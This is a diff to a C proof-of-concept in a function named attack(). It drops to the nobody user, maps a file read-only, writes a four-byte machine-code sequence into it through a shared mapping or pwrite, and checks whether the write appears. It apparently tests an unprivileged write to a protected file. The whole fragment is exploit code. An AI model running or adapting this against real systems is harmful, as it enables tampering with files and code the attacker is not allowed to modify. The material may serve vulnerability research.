@@ -61,12 +61,8 @@ static void attack(int shared_map) {
     }
   }
   /* Every id nobody's, no capability: nothing left to take back. */
-  if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setresgid, 65534, 65534, 65534) ||
-      syscall(SYS_setresuid, 65534, 65534, 65534)) {
-    printf("setup: %s\n", strerror(errno));
+  if (thread_becomes_nobody())
     return;
-  }
-  prctl(PR_SET_DUMPABLE, 1, 0, 0, 0); /* the supervisor reads our memory */
   printf("can open it for writing now: %d\n", open(FILE_PATH, O_WRONLY) >= 0);
   int fd = open(FILE_PATH, O_RDONLY);
   unsigned char *m =
@@ -76,7 +72,8 @@ static void attack(int shared_map) {
     return;
   }
   printf("mapped by a process with no privilege\n");
-  const unsigned char code[4] = {0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3};
+  unsigned char code[4];
+  wrpkru_ret(code);
   int wrote = shared_map ? (memcpy(sh + 0x100, code, 4), 1) : pwrite(w, code, 4, 0x100) == 4;
   int adv = madvise(m, 4096, MADV_DONTNEED);
   printf("written: %d, advised away: %d, the code shows the write: %d\n", wrote, adv,
